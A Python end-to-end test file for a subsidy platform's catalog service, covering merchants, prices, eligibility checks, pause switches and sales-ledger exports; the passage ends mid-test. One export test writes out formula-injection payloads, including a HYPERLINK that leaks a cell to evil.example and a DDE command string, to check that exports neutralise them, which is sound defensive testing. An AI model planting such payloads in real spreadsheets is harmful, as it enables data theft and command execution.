"""The catalog on the real stack: every refusal, merchants, prices, switches, units, sales ledger.

Every refused command is checked for its exact status code, ErrorInfo reason and field, and
for changing nothing (the catalog's event count is the same before and after). Tests that
change the policy in force run against a catalog of their own (test_catalog_isolated.py), so
the shared platform keeps the default policy the checkout tests expect.
"""

from __future__ import annotations

import asyncio
import csv
import io
import random
from collections.abc import AsyncIterator, Awaitable
from typing import Any

import grpc
import pytest
from sqlalchemy import select

from services.catalog.api import CatalogApi
from services.catalog.handlers import Catalog
from services.catalog.projections import sales_orders
from services.kernel import rpc
from services.kernel.eventstore import EventStore, make_engine
from services.kernel.identity import Caller, Role
from subsidy.v1 import catalog_pb2, catalog_pb2_grpc, common_pb2, eligibility_pb2, ledger_pb2
from subsidyctl.demo import IN_REGION
from tests.e2e.conftest import DEMO_POLICY_VERSION, Platform, eventually, status_of
from tests.support.callers import CallerRouter

OPERATOR = common_pb2.Actor(kind=common_pb2.Actor.KIND_OPERATOR, id="op-li")
APPROVER = common_pb2.Actor(kind=common_pb2.Actor.KIND_APPROVER, id="ap-wang")
PLATFORM_ACTOR = common_pb2.Actor(kind=common_pb2.Actor.KIND_PLATFORM, id="jd")
LICENCE = "91440300MA5DC6QX4Y"
INVALID = grpc.StatusCode.INVALID_ARGUMENT
PRECONDITION = grpc.StatusCode.FAILED_PRECONDITION


async def catalog_events(p: Platform) -> int:
    return await p.running["catalog"].runtime.store.count()


async def refused(
    p: Platform, call: Awaitable[Any], code: grpc.StatusCode, reason: str, field: str
) -> None:
    """``call`` fails with exactly (code, reason, field) and appends no catalog event."""
    before = await catalog_events(p)
    with pytest.raises(grpc.aio.AioRpcError) as err:
        await call
    assert status_of(err.value) == (code, reason, field), err.value.details()
    assert await catalog_events(p) == before


async def merchant(p: Platform, rng: random.Random, *, approve: bool = True) -> str:
    merchant_id = f"m-{rng.randrange(10**12)}"
    await p.catalog.ApplyMerchant(
        catalog_pb2.ApplyMerchantRequest(
            merchant_id=merchant_id,
            name="深圳市坪山区示例电器商行",
            licence_number=LICENCE,
            contact_phone="13800000000",
        )
    )
    if approve:
        await p.catalog.ReviewMerchant(
            catalog_pb2.ReviewMerchantRequest(merchant_id=merchant_id, approve=True)
        )
    return merchant_id


async def product(
    p: Platform, rng: random.Random, merchant_id: str, category: str, grade: int, price_fen: int
) -> str:
    sku = f"sku-{rng.randrange(10**12)}"
    await p.catalog.RegisterProduct(
        catalog_pb2.RegisterProductRequest(
            sku=sku,
            merchant_id=merchant_id,
            category=category,
            grade=grade,
            brand="美的",
            model=f"M{rng.randrange(10**6)}",
            list_price_fen=price_fen,
        )
    )
    return sku


async def verify(
    p: Platform, sku: str, price_fen: int, serial: str = ""
) -> catalog_pb2.VerifyItemResponse:
    before = await catalog_events(p)
    v = await p.catalog.VerifyItem(
        catalog_pb2.VerifyItemRequest(sku=sku, unit_price_fen=price_fen, serial=serial)
    )
    assert await catalog_events(p) == before  # verification is a query
    return v


# --------------------------------------------------------------------------------------------
# Quotes


QUOTES = [
    # (category, grade, price_fen) -> (eligible, subsidy_fen, rate_bp, cap_fen, reasons)
    (("refrigerator", 1, 1_200_000), (True, 200_000, 2000, 200_000, [])),
    (("washing_machine", 2, 500_000), (True, 75_000, 1500, 200_000, [])),
    (("phone", 0, 300_000), (True, 45_000, 1500, 50_000, [])),
    (("phone", 0, 600_100), (False, 0, 1500, 50_000, ["PRICE_ABOVE_CEILING"])),
    (("tablet", 0, 400_000), (True, 50_000, 1500, 50_000, [])),
    (("air_fryer", 0, 40_000), (True, 6_000, 1500, 200_000, [])),
    (("tv", 3, 300_000), (False, 0, 0, 200_000, ["GRADE_NOT_ELIGIBLE"])),
]


@pytest.mark.parametrize(
    ("item", "expected"), QUOTES, ids=[f"{c}-{g}-{f}" for (c, g, f), _ in QUOTES]
)
async def test_quote_answers_the_issue_list(
    platform: Platform, item: tuple[str, int, int], expected: tuple[bool, int, int, int, list[str]]
) -> None:
    category, grade, price_fen = item
    q = await platform.catalog.Quote(
        catalog_pb2.QuoteRequest(category=category, grade=grade, price_fen=price_fen)
    )
    assert (q.eligible, q.subsidy_fen, q.rate_bp, q.cap_fen, list(q.reasons)) == expected
    assert q.policy_version == DEMO_POLICY_VERSION
    pinned = await platform.catalog.Quote(
        catalog_pb2.QuoteRequest(
            category=category, grade=grade, price_fen=price_fen, policy_version=DEMO_POLICY_VERSION
        )
    )
    assert pinned == q


@pytest.mark.parametrize(
    ("request_", "code", "reason", "field"),
    [
        (dict(category="tv", grade=1, price_fen=-1), INVALID, "INVALID_PRICE", "price_fen"),
        (dict(category="tv", grade=1, price_fen=0), INVALID, "INVALID_PRICE", "price_fen"),
        (dict(category="tv", grade=1, price_fen=10**11), INVALID, "INVALID_PRICE", "price_fen"),
        (dict(category="tv", grade=6, price_fen=100), INVALID, "INVALID_GRADE", "grade"),
        (dict(category="tv", grade=-1, price_fen=100), INVALID, "INVALID_GRADE", "grade"),
        (dict(category="toaster", grade=1, price_fen=100), INVALID, "UNKNOWN_CATEGORY", "category"),
        (dict(category="", grade=1, price_fen=100), INVALID, "MISSING_FIELD", "category"),
        (dict(category="x" * 65, grade=1, price_fen=100), INVALID, "FIELD_TOO_LONG", "category"),
        (
            dict(category="tv", grade=1, price_fen=100, policy_version="shenzhen-1999"),
            grpc.StatusCode.NOT_FOUND,
            "UNKNOWN_POLICY_VERSION",
            "policy_version",
        ),
        (
            dict(category="tv", grade=1, price_fen=100, policy_version="no such/version"),
            INVALID,
            "INVALID_IDENTIFIER",
            "policy_version",
        ),
    ],
)
async def test_quote_refuses_bad_input_precisely(
    platform: Platform, request_: dict[str, Any], code: grpc.StatusCode, reason: str, field: str
) -> None:
    await refused(
        platform, platform.catalog.Quote(catalog_pb2.QuoteRequest(**request_)), code, reason, field
    )


# --------------------------------------------------------------------------------------------
# Merchants


async def test_merchant_review_suspend_reinstate(platform: Platform, rng: random.Random) -> None:
    p = platform
    m = await merchant(p, rng, approve=False)
    sku = await product(p, rng, m, "refrigerator", 1, 500_000)
    v = await verify(p, sku, 500_000)
    assert (v.eligible, list(v.reasons)) == (False, ["MERCHANT_NOT_APPROVED"])

    await p.catalog.ReviewMerchant(catalog_pb2.ReviewMerchantRequest(merchant_id=m, approve=True))
    v = await verify(p, sku, 500_000)
    assert (v.eligible, v.subsidy_fen, v.merchant_id) == (True, 100_000, m)

    s = await p.catalog.SuspendMerchant(
        catalog_pb2.MerchantActionRequest(
            merchant_id=m, reason="虚假交易 fake sales", actor=OPERATOR
        )
    )
    assert (s.status, s.status_reason) == ("SUSPENDED", "虚假交易 fake sales")
    v = await verify(p, sku, 500_000)
    assert (v.eligible, list(v.reasons), v.subsidy_fen) == (False, ["MERCHANT_SUSPENDED"], 0)

    r = await p.catalog.ReinstateMerchant(
        catalog_pb2.MerchantActionRequest(merchant_id=m, reason="整改完成", actor=OPERATOR)
    )
    assert r.status == "APPROVED"
    assert (await verify(p, sku, 500_000)).eligible

    # Each change is an event with its actor and reason.
    envs = await p.running["catalog"].runtime.store.read_stream(f"merchant/{m}")
    assert [e.event_type.rsplit(".", 1)[-1] for e in envs] == [
        "MerchantApplied",
        "MerchantReviewed",
        "MerchantSuspended",
        "MerchantReinstated",
    ]
    assert (envs[2].actor.id, envs[2].actor.reason) == ("op-li", "虚假交易 fake sales")


async def test_merchant_rejection_needs_a_reason(platform: Platform, rng: random.Random) -> None:
    p = platform
    m = await merchant(p, rng, approve=False)
    await refused(
        p,
        p.catalog.ReviewMerchant(catalog_pb2.ReviewMerchantRequest(merchant_id=m, approve=False)),
        INVALID,
        "MISSING_FIELD",
        "reason",
    )
    rejected = await p.catalog.ReviewMerchant(
        catalog_pb2.ReviewMerchantRequest(merchant_id=m, approve=False, reason="营业执照过期")
    )
    assert (rejected.status, rejected.status_reason) == ("REJECTED", "营业执照过期")
    sku = await product(p, rng, m, "tv", 1, 300_000)
    assert list((await verify(p, sku, 300_000)).reasons) == ["MERCHANT_NOT_APPROVED"]


async def test_merchant_refusals(platform: Platform, rng: random.Random) -> None:
    p = platform
    applied = await merchant(p, rng, approve=False)
    approved = await merchant(p, rng)

    def suspend(m: str, reason: str = "violation", actor: common_pb2.Actor = OPERATOR) -> Any:
        return p.catalog.SuspendMerchant(
            catalog_pb2.MerchantActionRequest(merchant_id=m, reason=reason, actor=actor)
        )

    def reinstate(m: str) -> Any:
        return p.catalog.ReinstateMerchant(
            catalog_pb2.MerchantActionRequest(merchant_id=m, reason="ok", actor=OPERATOR)
        )

    await refused(p, suspend(applied), PRECONDITION, "MERCHANT_NOT_APPROVED", "merchant_id")
    await refused(p, reinstate(approved), PRECONDITION, "MERCHANT_NOT_SUSPENDED", "merchant_id")
    await refused(p, suspend(approved, reason=""), INVALID, "MISSING_FIELD", "reason")
    await refused(p, suspend(approved, reason="x" * 501), INVALID, "FIELD_TOO_LONG", "reason")
    await refused(
        p,
        suspend(approved, actor=PLATFORM_ACTOR),
        grpc.StatusCode.PERMISSION_DENIED,
        "ROLE_NOT_ALLOWED",
        "",
    )
    await refused(
        p, suspend("m-nobody"), grpc.StatusCode.NOT_FOUND, "UNKNOWN_MERCHANT", "merchant_id"
    )
    await refused(p, suspend("bad id!"), INVALID, "INVALID_IDENTIFIER", "merchant_id")
    await suspend(approved)
    await refused(p, suspend(approved), PRECONDITION, "MERCHANT_ALREADY_SUSPENDED", "merchant_id")
    await refused(
        p,
        p.catalog.ReviewMerchant(
            catalog_pb2.ReviewMerchantRequest(merchant_id=approved, approve=True)
        ),
        PRECONDITION,
        "MERCHANT_ALREADY_REVIEWED",
        "merchant_id",
    )

    def apply(**kw: str) -> Any:
        fields: dict[str, Any] = dict(
            merchant_id=f"m-{rng.randrange(10**12)}",
            name="商行",
            licence_number=LICENCE,
            contact_phone="13800000000",
        )
        return p.catalog.ApplyMerchant(catalog_pb2.ApplyMerchantRequest(**{**fields, **kw}))

    await refused(
        p,
        apply(merchant_id=approved),
        grpc.StatusCode.ALREADY_EXISTS,
        "MERCHANT_EXISTS",
        "merchant_id",
    )
    await refused(p, apply(licence_number="12345"), INVALID, "INVALID_LICENCE", "licence_number")
    await refused(p, apply(name=""), INVALID, "MISSING_FIELD", "name")
    await refused(p, apply(name="名" * 201), INVALID, "FIELD_TOO_LONG", "name")
    with pytest.raises(grpc.aio.AioRpcError) as err:
        await apply(contact_phone="12")
    code, _, field = status_of(err.value)
    assert (code, field) == (INVALID, "contact_phone")


# --------------------------------------------------------------------------------------------
# Products and prices


async def test_product_registration_refusals(platform: Platform, rng: random.Random) -> None:
    p = platform
    m = await merchant(p, rng)
    sku = await product(p, rng, m, "tv", 1, 300_000)

    def register(**kw: Any) -> Any:
        fields: dict[str, Any] = dict(
            sku=f"sku-{rng.randrange(10**12)}",
            merchant_id=m,
            category="tv",
            grade=1,
            brand="TCL",
            model="X1",
            list_price_fen=300_000,
        )
        return p.catalog.RegisterProduct(catalog_pb2.RegisterProductRequest(**{**fields, **kw}))

    await refused(p, register(sku=sku), grpc.StatusCode.ALREADY_EXISTS, "PRODUCT_EXISTS", "sku")
    await refused(p, register(sku=""), INVALID, "MISSING_FIELD", "sku")
    await refused(p, register(sku="s" * 65), INVALID, "FIELD_TOO_LONG", "sku")
    await refused(p, register(category="toaster"), INVALID, "UNKNOWN_CATEGORY", "category")
    await refused(p, register(grade=9), INVALID, "INVALID_GRADE", "grade")
    await refused(p, register(list_price_fen=-5), INVALID, "INVALID_PRICE", "list_price_fen")
    await refused(p, register(list_price_fen=10**12), INVALID, "INVALID_PRICE", "list_price_fen")
    await refused(p, register(brand=""), INVALID, "MISSING_FIELD", "brand")
    await refused(p, register(model="m" * 101), INVALID, "FIELD_TOO_LONG", "model")
    await refused(p, register(brand="a\x01b"), INVALID, "INVALID_TEXT", "brand")
    await refused(
        p,
        register(merchant_id="m-nobody"),
        grpc.StatusCode.NOT_FOUND,
        "UNKNOWN_MERCHANT",
        "merchant_id",
    )


async def test_price_history_and_baseline_block_inflation(
    platform: Platform, rng: random.Random
) -> None:
    """A price raised just before the sale is measured against the price it held for longer."""
    p = platform
    m = await merchant(p, rng)
    sku = await product(p, rng, m, "washing_machine", 1, 100_000)
    await asyncio.sleep(1.0)  # the first price holds for a second...
    raised = await p.catalog.UpdatePrice(
        catalog_pb2.UpdatePriceRequest(
            sku=sku, list_price_fen=130_000, reason="原材料涨价", actor=OPERATOR
        )
    )
    # ...the raise only for milliseconds: the time-weighted median is still the first price.
    assert (raised.list_price_fen, raised.baseline_fen) == (130_000, 100_000)
    v = await verify(p, sku, 130_000)
    assert (v.eligible, list(v.reasons), v.baseline_fen) == (
        False,
        ["PRICE_ABOVE_BASELINE"],
        100_000,
    )
    # Tolerance 10% of the baseline: 110,000 fen passes, one fen more does not.
    assert v.price_limit_fen == 110_000
    assert (await verify(p, sku, 110_000)).eligible
    assert list((await verify(p, sku, 110_001)).reasons) == ["PRICE_ABOVE_BASELINE"]
    # A discount below the list price is always fine.
    assert (await verify(p, sku, 90_000)).subsidy_fen == 18_000

    history = await p.catalog.GetPriceHistory(catalog_pb2.GetPriceHistoryRequest(sku=sku))
    assert [(x.price_fen, x.reason) for x in history.points] == [
        (100_000, "registered"),
        (130_000, "原材料涨价"),
    ]
    assert (history.baseline_fen, history.baseline_window_days) == (100_000, 90)


async def test_price_and_delist_refusals(platform: Platform, rng: random.Random) -> None:
    p = platform
    m = await merchant(p, rng)
    sku = await product(p, rng, m, "tv", 2, 300_000)

    def reprice(price: int, sku: str = sku, reason: str = "调价") -> Any:
        return p.catalog.UpdatePrice(
            catalog_pb2.UpdatePriceRequest(
                sku=sku, list_price_fen=price, reason=reason, actor=OPERATOR
            )
        )

    def delist(sku: str = sku, actor: common_pb2.Actor = OPERATOR) -> Any:
        return p.catalog.DelistProduct(
            catalog_pb2.DelistProductRequest(sku=sku, reason="停产", actor=actor)
        )

    await refused(p, reprice(300_000), PRECONDITION, "PRICE_UNCHANGED", "list_price_fen")
    await refused(p, reprice(0), INVALID, "INVALID_PRICE", "list_price_fen")
    await refused(p, reprice(-300_000), INVALID, "INVALID_PRICE", "list_price_fen")
    await refused(p, reprice(310_000, reason=""), INVALID, "MISSING_FIELD", "reason")
    await refused(
        p, reprice(310_000, sku="sku-nobody"), grpc.StatusCode.NOT_FOUND, "UNKNOWN_SKU", "sku"
    )
    await refused(
        p,
        delist(actor=PLATFORM_ACTOR),
        grpc.StatusCode.PERMISSION_DENIED,
        "ROLE_NOT_ALLOWED",
        "",
    )
    await refused(
        p,
        p.catalog.GetProduct(catalog_pb2.GetProductRequest(sku="sku-nobody")),
        grpc.StatusCode.NOT_FOUND,
        "UNKNOWN_SKU",
        "sku",
    )

    gone = await delist()
    assert gone.status == "DELISTED"
    v = await verify(p, sku, 300_000)
    assert (v.eligible, list(v.reasons)) == (False, ["PRODUCT_DELISTED"])
    await refused(p, delist(), PRECONDITION, "PRODUCT_ALREADY_DELISTED", "sku")
    await refused(p, reprice(310_000), PRECONDITION, "PRODUCT_DELISTED", "sku")


# --------------------------------------------------------------------------------------------
# VerifyItem: every reason, and bad requests


async def test_verify_item_lists_every_reason(platform: Platform, rng: random.Random) -> None:
    p = platform
    m = await merchant(p, rng)
    tv3 = await product(p, rng, m, "tv", 3, 300_000)
    fridge_no_grade = await product(p, rng, m, "refrigerator", 0, 300_000)
    phone = await product(p, rng, m, "phone", 0, 700_000)
    phone_graded = await product(p, rng, m, "phone", 1, 300_000)

    cases = [
        ("sku-nobody", 100_000, ["UNKNOWN_SKU"]),
        (tv3, 300_000, ["GRADE_NOT_ELIGIBLE"]),
        (fridge_no_grade, 300_000, ["NO_GRADE_NOT_ELIGIBLE"]),
        (phone, 600_001, ["PRICE_ABOVE_CEILING"]),
        (phone_graded, 300_000, ["GRADE_NOT_ELIGIBLE"]),
    ]
    for sku, price, reasons in cases:
        v = await verify(p, sku, price)
        assert (v.eligible, list(v.reasons), v.subsidy_fen) == (False, reasons, 0), sku
    ok = await verify(p, phone, 600_000)
    assert (ok.eligible, ok.subsidy_fen, ok.rate_bp, ok.cap_fen, ok.category) == (
        True,
        50_000,
        1500,
        50_000,
        "phone",
    )
    assert ok.policy_version == DEMO_POLICY_VERSION

    # Several reasons at once, in the documented order.
    bad_merchant = await merchant(p, rng, approve=False)
    tv_bad = await product(p, rng, bad_merchant, "tv", 4, 300_000)
    v = await verify(p, tv_bad, 340_000)
    assert list(v.reasons) == [
        "MERCHANT_NOT_APPROVED",
        "GRADE_NOT_ELIGIBLE",
        "PRICE_ABOVE_BASELINE",
    ]


@pytest.mark.parametrize(
    ("request_", "reason", "field"),
    [
        (dict(sku="", unit_price_fen=100), "MISSING_FIELD", "sku"),
        (dict(sku="a b", unit_price_fen=100), "INVALID_IDENTIFIER", "sku"),
        (dict(sku="x", unit_price_fen=0), "INVALID_PRICE", "unit_price_fen"),
        (dict(sku="x", unit_price_fen=-100), "INVALID_PRICE", "unit_price_fen"),
        (dict(sku="x", unit_price_fen=10**10 + 1), "INVALID_PRICE", "unit_price_fen"),
        (dict(sku="x", unit_price_fen=100, serial="IMEI/1"), "INVALID_IDENTIFIER", "serial"),
        (dict(sku="x", unit_price_fen=100, serial="9" * 65), "FIELD_TOO_LONG", "serial"),
    ],
)
async def test_verify_item_refuses_bad_requests(
    platform: Platform, request_: dict[str, Any], reason: str, field: str
) -> None:
    await refused(
        platform,
        platform.catalog.VerifyItem(catalog_pb2.VerifyItemRequest(**request_)),
        INVALID,
        reason,
        field,
    )


# --------------------------------------------------------------------------------------------
# Emergency switches


@pytest.fixture
async def replica(platform: Platform) -> AsyncIterator[catalog_pb2_grpc.CatalogServiceAsyncStub]:
    """A second catalog replica on the same database, serving gRPC, with its own refresh loop."""
    store = EventStore(make_engine(platform.running["catalog"].runtime.settings.database_url))
    catalog = Catalog(store)
    await catalog.refresh()
    server, _ = rpc.build_server(
        [(catalog_pb2_grpc.add_CatalogServiceServicer_to_server, CatalogApi(catalog))],
        [catalog_pb2.DESCRIPTOR.services_by_name["CatalogService"].full_name],
    )
    identities = platform.infra.identities
    port = rpc.listen(server, "127.0.0.1:0", identities(Caller(Role.SERVICE, "catalog")))
    await server.start()
    stop = asyncio.Event()
    loop = asyncio.create_task(catalog.refresh_loop(stop))
    channel = CallerRouter(f"127.0.0.1:{port}", identities)
    try:
        yield catalog_pb2_grpc.CatalogServiceStub(channel)
    finally:
        stop.set()
        await loop
        await channel.close()
        await server.stop(grace=None)
        await store.engine.dispose()


async def within_one_second(check: Any) -> float:
    """Seconds until ``check()`` holds; fails if that takes a second or more."""
    loop = asyncio.get_running_loop()
    start = loop.time()
    while not await check():
        assert loop.time() - start < 1.0, "not effective within one second"
        await asyncio.sleep(0.02)
    return loop.time() - start


async def test_pause_category_reaches_every_replica_within_a_second(
    platform: Platform, rng: random.Random, replica: catalog_pb2_grpc.CatalogServiceAsyncStub
) -> None:
    p = platform
    m = await merchant(p, rng)
    sku = await product(p, rng, m, "microwave", 1, 100_000)
    request = catalog_pb2.VerifyItemRequest(sku=sku, unit_price_fen=100_000)
    assert (await replica.VerifyItem(request)).eligible

    switches = await p.catalog.PauseCategory(
        catalog_pb2.CategorySwitchRequest(category="microwave", reason="质量事件", actor=OPERATOR)
    )
    try:
        assert [(c.category, c.reason, c.actor_id) for c in switches.paused_categories] == [
            ("microwave", "质量事件", "op-li")
        ]
        # The replica that took the command refuses at once...
        v = await verify(p, sku, 100_000)
        assert (v.eligible, list(v.reasons)) == (False, ["CATEGORY_PAUSED"])

        # ...and the other replica within a second.
        async def replica_refuses() -> bool:
            return list((await replica.VerifyItem(request)).reasons) == ["CATEGORY_PAUSED"]

        await within_one_second(replica_refuses)
        # Other categories are untouched.
        other = await product(p, rng, m, "dishwasher", 1, 100_000)
        assert (await verify(p, other, 100_000)).eligible
        # A checkout of a paused category is refused by the ledger, naming the reason.
        _, consumer = await p.person(rng)
        pool = await p.pool(rng, 1_000_000)
        q = await p.eligibility.ClaimQualification(
            eligibility_pb2.ClaimQualificationRequest(
                circumstances=IN_REGION, consumer_id=consumer, category="microwave", channel="jd"
            )
        )
        with pytest.raises(grpc.aio.AioRpcError) as err:
            await p.ledger.ReserveSubsidy(
                ledger_pb2.ReserveSubsidyRequest(
                    order_id=f"o-{rng.randrange(10**12)}",
                    platform_id="jd",
                    pool_id=pool,
                    consumer_id=consumer,
                    qualification_id=q.qualification_id,
                    sku=sku,
                    unit_price_fen=100_000,
                )
            )
        assert status_of(err.value) == (PRECONDITION, "ITEM_NOT_ELIGIBLE", "sku")
        assert "CATEGORY_PAUSED" in str(err.value.details())

        await refused(
            p,
            p.catalog.PauseCategory(
                catalog_pb2.CategorySwitchRequest(
                    category="microwave", reason="again", actor=OPERATOR
                )
            ),
            PRECONDITION,
            "CATEGORY_ALREADY_PAUSED",
            "category",
        )
    finally:
        resumed = await p.catalog.ResumeCategory(
            catalog_pb2.CategorySwitchRequest(category="microwave", reason="已排查", actor=OPERATOR)
        )
    assert list(resumed.paused_categories) == []
    assert (await verify(p, sku, 100_000)).eligible

    async def replica_accepts() -> bool:
        return (await replica.VerifyItem(request)).eligible

    await within_one_second(replica_accepts)


async def test_pause_campaign_stops_everything_within_a_second(
    platform: Platform, rng: random.Random, replica: catalog_pb2_grpc.CatalogServiceAsyncStub
) -> None:
    p = platform
    m = await merchant(p, rng)
    fridge = await product(p, rng, m, "refrigerator", 2, 200_000)
    phone = await product(p, rng, m, "phone", 0, 200_000)
    paused = await p.catalog.PauseCampaign(
        catalog_pb2.CampaignSwitchRequest(reason="应急预案 emergency plan", actor=OPERATOR)
    )
    try:
        assert (paused.campaign_paused, paused.campaign_reason) == (True, "应急预案 emergency plan")
        for sku in (fridge, phone):
            v = await verify(p, sku, 200_000)
            assert (v.eligible, list(v.reasons)) == (False, ["CAMPAIGN_PAUSED"])
        assert list((await verify(p, "sku-nobody", 100)).reasons) == [
            "UNKNOWN_SKU",
            "CAMPAIGN_PAUSED",
        ]

        async def replica_refuses() -> bool:
            v = await replica.VerifyItem(
                catalog_pb2.VerifyItemRequest(sku=phone, unit_price_fen=200_000)
            )
            return list(v.reasons) == ["CAMPAIGN_PAUSED"]

        await within_one_second(replica_refuses)
        await refused(
            p,
            p.catalog.PauseCampaign(catalog_pb2.CampaignSwitchRequest(reason="x", actor=OPERATOR)),
            PRECONDITION,
            "CAMPAIGN_ALREADY_PAUSED",
            "",
        )
        got = await p.catalog.GetSwitches(catalog_pb2.GetSwitchesRequest())
        assert got.campaign_paused
    finally:
        await p.catalog.ResumeCampaign(
            catalog_pb2.CampaignSwitchRequest(reason="恢复", actor=OPERATOR)
        )
    assert (await verify(p, phone, 200_000)).eligible
    envs = await p.running["catalog"].runtime.store.read_stream("switches")
    assert [e.event_type.rsplit(".", 1)[-1] for e in envs[-2:]] == [
        "CampaignPaused",
        "CampaignResumed",
    ]
    assert envs[-1].actor.reason == "恢复"


async def test_switch_refusals(platform: Platform) -> None:
    p = platform

    def pause(category: str, reason: str = "r", actor: common_pb2.Actor = OPERATOR) -> Any:
        return p.catalog.PauseCategory(
            catalog_pb2.CategorySwitchRequest(category=category, reason=reason, actor=actor)
        )

    await refused(p, pause("toaster"), INVALID, "UNKNOWN_CATEGORY", "category")
    await refused(p, pause(""), INVALID, "MISSING_FIELD", "category")
    await refused(p, pause("kettle", reason=" "), INVALID, "MISSING_FIELD", "reason")
    await refused(
        p,
        pause("kettle", actor=PLATFORM_ACTOR),
        grpc.StatusCode.PERMISSION_DENIED,
        "ROLE_NOT_ALLOWED",
        "",
    )
    await refused(
        p,
        p.catalog.ResumeCategory(
            catalog_pb2.CategorySwitchRequest(category="kettle", reason="r", actor=OPERATOR)
        ),
        PRECONDITION,
        "CATEGORY_NOT_PAUSED",
        "category",
    )
    await refused(
        p,
        p.catalog.ResumeCampaign(catalog_pb2.CampaignSwitchRequest(reason="r", actor=OPERATOR)),
        PRECONDITION,
        "CAMPAIGN_NOT_PAUSED",
        "",
    )


# --------------------------------------------------------------------------------------------
# Units (serial / IMEI) and the sales ledger, from the ledger's events


async def checkout(
    p: Platform, rng: random.Random, sku: str, price: int, pool: str, serial: str = ""
) -> str:
    _, consumer = await p.person(rng)
    category = (await p.catalog.GetProduct(catalog_pb2.GetProductRequest(sku=sku))).category
    q = await p.eligibility.ClaimQualification(
        eligibility_pb2.ClaimQualificationRequest(
            circumstances=IN_REGION, consumer_id=consumer, category=category, channel="jd"
        )
    )
    order = f"o-{rng.randrange(10**12)}"
    await p.ledger.ReserveSubsidy(
        ledger_pb2.ReserveSubsidyRequest(
            order_id=order,
            platform_id="jd",
            pool_id=pool,
            consumer_id=consumer,
            qualification_id=q.qualification_id,
            sku=sku,
            unit_price_fen=price,
            serial=serial,
        )
    )
    return order


async def order_status(p: Platform, order: str) -> str:
    async with p.running["catalog"].runtime.store.engine.connect() as conn:
        return str(
            await conn.scalar(select(sales_orders.c.status).where(sales_orders.c.order_id == order))
            or ""
        )


async def test_one_serial_one_subsidy(platform: Platform, rng: random.Random) -> None:
    p = platform
    m = await merchant(p, rng)
    sku = await product(p, rng, m, "phone", 0, 300_000)
    pool = await p.pool(rng, 10_000_000)
    imei = f"86{rng.randrange(10**13):013d}"
    first = await checkout(p, rng, sku, 300_000, pool, serial=imei)

    async def held() -> None:
        assert await order_status(p, first) == "RESERVED"

    await eventually(held)
    v = await verify(p, sku, 300_000, serial=imei)
    masked = f"{first[:2]}{'*' * (len(first) - 6)}{first[-4:]}"
    assert (v.eligible, list(v.reasons), v.serial_bound_order) == (
        False,
        ["SERIAL_RESERVED"],
        masked,
    )
    assert first not in str(v)  # the first order is only ever shown masked

    await p.ledger.CaptureSubsidy(
        ledger_pb2.CaptureSubsidyRequest(order_id=first, payment_ref="pay")
    )

    async def bound() -> None:
        assert await order_status(p, first) == "CAPTURED"

    await eventually(bound)
    v = await verify(p, sku, 300_000, serial=imei)
    assert (list(v.reasons), v.serial_bound_order) == (["SERIAL_ALREADY_SUBSIDISED"], masked)
    # A second checkout of the same unit is refused by the ledger with the catalog's reason.
    with pytest.raises(grpc.aio.AioRpcError) as err:
        await checkout(p, rng, sku, 300_000, pool, serial=imei)
    assert status_of(err.value) == (PRECONDITION, "ITEM_NOT_ELIGIBLE", "sku")
    assert "SERIAL_ALREADY_SUBSIDISED" in str(err.value.details())
    # Another unit of the same product is fine.
    assert (await verify(p, sku, 300_000, serial=imei + "1")).eligible

    # The unit is returned: the refund frees the serial for a new sale.
    await p.ledger.ReleaseSubsidy(
        ledger_pb2.ReleaseSubsidyRequest(order_id=first, reason="REFUNDED")
    )

    async def freed() -> None:
        assert await order_status(p, first) == "RELEASED"

    await eventually(freed)
    assert (await verify(p, sku, 300_000, serial=imei)).eligible
    await p.running["catalog"].wiring.registrations[0][1].catalog.check_serials()


async def test_sales_ledger_exports_never_carry_a_formula(
    platform: Platform, rng: random.Random
) -> None:
    """A merchant's brand and model reach the auditor's spreadsheet: a cell that would run as a
    formula (=, +, -, @) is written as text with a leading ' in CSV and as a string in XLSX;
    numbers stay numbers."""
    from openpyxl import load_workbook

    p = platform
    m = await merchant(p, rng)
    brand = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
    model = f"@SUM(1+1)*cmd|' /C calc'!A{rng.randrange(10**6)}"
    sku = f"sku-{rng.randrange(10**12)}"
    await p.catalog.RegisterProduct(
        catalog_pb2.RegisterProductRequest(
            sku=sku,
            merchant_id=m,
            category="phone",
            grade=0,
            brand=brand,
            model=model,
            list_price_fen=300_000,
        )
    )
    pool = await p.pool(rng, 10_000_000)
    order = await checkout(p, rng, sku, 300_000, pool)
    await p.ledger.CaptureSubsidy(ledger_pb2.CaptureSubsidyRequest(order_id=order))

    async def captured() -> catalog_pb2.SalesLedger:
        got = await p.catalog.GetSalesLedger(catalog_pb2.GetSalesLedgerRequest(merchant_id=m))
        assert [(r.sku, r.sold_units) for r in got.rows] == [(sku, 1)]
        return got

    ledger = await eventually(captured)
    assert (ledger.rows[0].brand, ledger.rows[0].model) == (brand, model)  # the API: as typed

    export = await p.catalog.ExportSalesLedger(
        catalog_pb2.ExportSalesLedgerRequest(format="csv", merchant_id=m)
    )
    header, row = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert header[3:5] == ["品牌 brand", "型号 model"]
    assert row[:5] == [m, sku, "phone", "'" + brand, "'" + model]
    assert row[5:] == ["1", "300000", "45000", "0", "0", "0", "1", "45000"]  # no ' on numbers

    xlsx = await p.catalog.ExportSalesLedger(
        catalog_pb2.ExportSalesLedgerRequest(format="xlsx", merchant_id=m)
    )
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    (cells,) = sheet.iter_rows(min_row=2, max_row=2)
    assert [c.value for c in cells[:5]] == [m, sku, "phone", "'" + brand, "'" + model]
    assert {c.data_type for c in cells[:5]} == {"s"}  # text, not a formula ("f")
    assert [c.value for c in cells[5:]] == [1, 300_000, 45_000, 0, 0, 0, 1, 45_000]
    assert {c.data_type for c in cells[5:]} == {"n"}


async def test_sales_ledger_rebuilds_identically_from_events(
    platform: Platform, rng: random.Random
) -> None:
    from services.catalog import sales

    p = platform
    m = await merchant(p, rng)
    fridge = await product(p, rng, m, "refrigerator", 1, 1_200_000)
    phone = await product(p, rng, m, "phone", 0, 300_000)
    pool = await p.pool(rng, 100_000_000)
    sold = [await checkout(p, rng, fridge, 1_200_000, pool) for _ in range(2)]
    sold.append(await checkout(p, rng, phone, 300_000, pool, serial=f"35{rng.randrange(10**13)}"))
    cancelled = await checkout(p, rng, phone, 300_000, pool)
    for order in sold:
        await p.ledger.CaptureSubsidy(ledger_pb2.CaptureSubsidyRequest(order_id=order))
    await p.ledger.ReleaseSubsidy(
